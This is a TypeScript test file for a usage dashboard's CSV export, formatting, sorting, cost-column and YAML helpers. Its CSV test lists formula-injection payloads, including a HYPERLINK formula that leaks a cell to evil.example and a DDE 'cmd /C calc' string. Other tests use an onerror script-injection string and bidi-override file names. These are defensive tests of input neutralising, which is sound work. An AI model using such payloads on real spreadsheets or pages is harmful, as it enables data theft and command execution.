import t from 'tap'
import { wordsOf } from '../../src/config/account-terms.ts'
import { detailWords } from '../../src/dashboard/browser/change-details.ts'
import { costColumns, currenciesOf } from '../../src/dashboard/browser/costs.ts'
import { toCsv } from '../../src/dashboard/browser/csv.ts'
import { amountWords, brief, exact, fromNow, length, money, plainName, reasonWords, windowWords } from '../../src/dashboard/browser/format.ts'
import { compareDecimals, inOrder } from '../../src/dashboard/browser/order.ts'
import type { UsageAnswer, UsageRow } from '../../src/dashboard/browser/shapes.ts'
import { seriesOf } from '../../src/dashboard/browser/usage.ts'
import { yamlText } from '../../src/dashboard/browser/yaml-text.ts'

/** As the name of a test: a separator of lines would end it. */
function named(value: unknown): string {
  return JSON.stringify(value).replaceAll('\u2028', '\\u2028')
}

/** A reader of RFC 4180 that knows nothing of ours. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]]
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      at += 1
      while (text[at] !== '"' || text[at + 1] === '"') {
        cell += text[at]
        at += text[at] === '"' ? 2 : 1
      }
      at += 1
    } else while (at < text.length && !',\r\n'.includes(text[at] ?? '')) cell += text[at++]
    rows.at(-1)?.push(cell)
    if (text[at] === ',') at += 1
    else {
      if (text.slice(at, at + 2) !== '\r\n') throw new Error(`no line end at ${at}`)
      at += 2
      if (at < text.length) rows.push([])
    }
  }
  return rows
}

t.test('W2: no cell of a CSV becomes a formula, and every text comes back as it was', async (t) => {
  const hostile = ['=1+1', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '|cmd', ' =1', '＝1+1', '＠x', "=HYPERLINK(\"http://evil.example?\"&A1)", '-2+3+cmd|\' /C calc\'!A0']
  for (const text of hostile) {
    const cell = parse(toCsv(['a'], [[text]]).slice(1))[1]?.[0]
    t.equal(cell, `'${text}`, JSON.stringify(text))
  }
  for (const text of ['plain', 'with "quotes"', 'two\nlines', 'two\r\nlines', 'a,b', 'ü 漢 🙂', "it's", 'a=b', '', '-5', '-0.25', '<img src=x onerror=alert(1)>']) {
    t.equal(parse(toCsv(['a'], [[text, 'z']]).slice(1))[1]?.[0], text, JSON.stringify(text))
  }
  t.equal(parse(toCsv(['a'], [['a\0b']]).slice(1))[1]?.[0], 'ab', 'NUL is left out')
  t.equal(toCsv(['a', 'b'], [[1, null], [-2.5, 'x']]), '\ufeffa,b\r\n1,\r\n-2.5,x\r\n', 'numbers stay numbers')
})

t.test('amounts, sums and instants are written as people read them', async (t) => {
  t.same([[1, 'requests'], [3, 'requests'], [1, 'total_tokens'], [1, 'compute_seconds'], [2.5, 'cost']].map(([amount, meter]) => amountWords(Number(amount), String(meter))), ['1 request', '3 requests', '1 token', '1 s', '2.5'])
  t.same([0, 7, 1234567, 0.25, 1234.567, null].map(exact), ['0', '7', '1,234,567', '0.25', '1,234.57', '–'])
  t.same([9_999, 12_345, 1_234_567].map(brief), ['9,999', '12.3K', '1.23M'])
  t.same([{ USD: '1.2' }, { USD: '0.000412500' }, { USD: '0' }, {}, { EUR: '2', USD: '3' }, null].map(money), ['1.20 USD', '0.000413 USD', '–', '–', '2.00 EUR + 3.00 USD', '–'])
  t.same([250, 12_000, 75_000, 3_600_000, 90_061_000, 26 * 86_400_000].map(length), ['250 ms', '12 s', '1 min 15 s', '1 h', '1 d 1 h', '26 d'])
  const now = Date.parse('2026-11-22T10:00:00Z')
  t.same(['2026-11-22T10:00:12Z', '2026-11-22T09:58:00Z', '2026-11-22T10:00:00.100Z', null, 'never'].map((text) => fromNow(text, now)), ['in 12 s', '2 min ago', 'now', '–', '–'])
  t.same(['day', '1m', '1h (fixed)', null].map(windowWords), ['per day', 'in 1m', 'in 1h by the clock', 'at once'])
  t.equal(reasonWords('some_new_reason'), 'some new reason', 'a reason of tomorrow can be read')
})

t.test('amounts are sorted as what they are, to the last digit; what is unknown is last both ways', async (t) => {
  const sorted = (cells: readonly (string | number | null)[], numeric: boolean): unknown[] => [false, true].map((down) => inOrder(cells, (cell) => cell, { down, numeric }))
  t.same(sorted(['9.000000000', null, '1234.567891234', '0.003500000', '0.020000000', '12.500000000', '12.250000000', '-3.000000000'], true), [
    ['-3.000000000', '0.003500000', '0.020000000', '9.000000000', '12.250000000', '12.500000000', '1234.567891234', null],
    ['1234.567891234', '12.500000000', '12.250000000', '9.000000000', '0.020000000', '0.003500000', '-3.000000000', null],
  ])
  t.same(sorted(['0.25', '0.3', '10', '-5', '3 of 31 days', '-12', '2.125', '2.5', '-0.5', '-0.25', '0'], true)[0], ['-12', '-5', '-0.5', '-0.25', '0', '0.25', '0.3', '2.125', '2.5', '10', '3 of 31 days'])
  t.same(sorted(['15/M', '0.3/M', '0.25/M', '0.02'], true)[0], ['0.02', '0.25/M', '0.3/M', '15/M'])
  t.same(sorted([3, null, -1, '2.5', 20], true), [[-1, '2.5', 3, 20, null], [20, 3, '2.5', -1, null]])
  t.same(sorted(['b', null, 'a10', 'a9'], false), [['a9', 'a10', 'b', null], ['b', 'a10', 'a9', null]], 'digits in names count as numbers')
  t.same([['9007199254740993.12', '9007199254740993.1'], ['9007199254740993', '9007199254740992'], ['-0.1', '0'], ['1.50', '1.5'], ['-0', '0.000'], ['0.09', '0.1']].map(([a = '', b = '']) => compareDecimals(a, b)), [1, 1, -1, 0, 0, -1])
})

t.test('costs have a column for each currency: rounded for people, exact for spreadsheets', async (t) => {
  const rows = [{ EUR: '3.000000000' }, { USD: '1234.567891234' }, { USD: '0.001234567', EUR: '-0.500000000' }, { USD: '9007199254740993.123456789' }, { USD: '0.000000000' }, {}]
  const columns = costColumns(rows, (row) => row)
  t.equal(toCsv(columns.map(({ title }) => title), rows.map((row) => columns.map(({ value }) => value(row)))),
    '\ufeffCost (USD),Cost (EUR)\r\n,3.000000000\r\n1234.567891234,\r\n0.001234567,-0.500000000\r\n9007199254740993.123456789,\r\n0.000000000,\r\n,\r\n')
  t.same(rows.map((row) => columns.map(({ show }) => show?.(row))), [['–', '3.00'], ['1,234.57', '–'], ['0.00123', '-0.50'], ['9,007,199,254,740,993.12', '–'], ['0.00', '–'], ['–', '–']])
  t.same(costColumns([{}], (row) => row).map(({ title }) => title), ['Cost'], 'nothing has a price')
  t.same(currenciesOf([{ USD: '9', EUR: '1' }, { EUR: '1', CHF: '0' }]), ['EUR', 'USD', 'CHF'])
})

t.test('a chart of costs is one of one currency', async (t) => {
  const row = (minute: number, model: string, cost: Record<string, string>): UsageRow => ({
    from: `2026-11-22T10:0${minute}:00Z`, model, cost, requests: 1, input_tokens: 0, output_tokens: 0, total_tokens: 0, refused: 0, p50_ms: null, p95_ms: null, ttft_p50_ms: null, tokens_per_second: null,
  })
  const answer: UsageAnswer = { unit: 'minute', from: '2026-11-22T10:00:00Z', to: '2026-11-22T10:02:00Z', complete_until: null, truncated: false, rows: [row(0, 'large', { USD: '2', EUR: '300' }), row(1, 'large', { USD: '4' }), row(1, 'small', { EUR: '50' })] }
  const drawn = (currency: string): unknown => seriesOf(answer, 'model', 'cost', 'none', currency).lines
  t.same(drawn('USD'), [{ name: 'large', values: [2, 4] }])
  t.same(drawn('EUR'), [{ name: 'large', values: [300, 0] }, { name: 'small', values: [0, 50] }])
  t.same(seriesOf(answer, 'model', 'requests', 'none').lines, [{ name: 'large', values: [1, 1] }, { name: 'small', values: [0, 1] }])
})

t.test('W1: a name turns no text around and hides nothing', async (t) => {
  t.equal(plainName('gpj.\u202etxt.exe'), 'gpj.\\u202etxt.exe')
  t.equal(plainName('a\u2028b\u2029c\u061c'), 'a\\u2028b\\u2029c\\u061c')
  t.equal(plainName('a\u200bb\u0000c\ufeff'), 'a\\u200bb\\u0000c\\ufeff')
  t.equal(plainName('<img src=x onerror=alert(1)> 漢字 🙂'), '<img src=x onerror=alert(1)> 漢字 🙂')
})

t.test('what was changed is told in words', async (t) => {
  t.equal(detailWords({ reason: 'unpaid' }), 'reason: unpaid')
  t.match(detailWords({ account: 'acme', plan: null, expires_ms: Date.UTC(2027, 0, 10, 12), grace_ms: 90_000, labels: {}, add_ons: [] }), /^account: acme; expires: 10 Jan 2027, \d\d:00:00; grace: 1 min 30 s$/)
  t.match(detailWords({ term_length: 'month', plans: [{ plan: 'free', from_ms: null, until_ms: Date.UTC(2027, 0, 10, 12) }], revision: 3 }), /^term length: month; plans: \[\{ plan: free, until: "10 Jan 2027, \d\d:00:00" \}\]; revision: 3$/)
  t.equal(detailWords({ reason: 'a\u202eb\u2028' }), 'reason: a\\u202eb\\u2028')
  t.same([{}, { reason: null }, undefined].map(detailWords), ['', '', ''])
})

t.test('terms are written as in the configuration, and mean the same when they are read again', async (t) => {
  t.equal(yamlText([{ name: 'night', meter: 'requests', limit: '1k', window: '1h', for: { models: ['large-*', 'small'] } }]), '- { name: night, meter: requests, limit: 1k, window: 1h, for: { models: ["large-*", small] } }')
  t.equal(yamlText({ team: 'search' }), 'team: search')
  t.equal(yamlText([]), '')
  t.equal(yamlText({}), '')
  const hostile = ['', ' ', 'true', 'NULL', '~', '12', '1.50', '-', '- a', 'a: b', 'a #b', '#', '"', '\\', "'", '*', '&a', '!t', '[', '{', '}', ',', '|', '>', '@', '`', '%', '?', '${HOME}', '$${x}', 'a\nb', '\u2028', '\u202e', 'é', '<<', '1e3', '0x1f', '.5', '2026-01-01', '12:30', 'a'.repeat(300)]
  for (const text of hostile) {
    for (const value of [[text], [{ a: text, b: [text, { c: text }] }], [[text, 1, 2.5, true, null]], [{}], [[]]]) t.same(wordsOf(yamlText(value), 'x'), { value }, named(value))
    // Neither is a name anywhere.
    if (text !== '<<' && !text.includes('${')) t.same(wordsOf(yamlText({ [text]: text, other: { [text]: [text] } }), 'x'), { value: { [text]: text, other: { [text]: [text] } } }, named(text))
  }
})
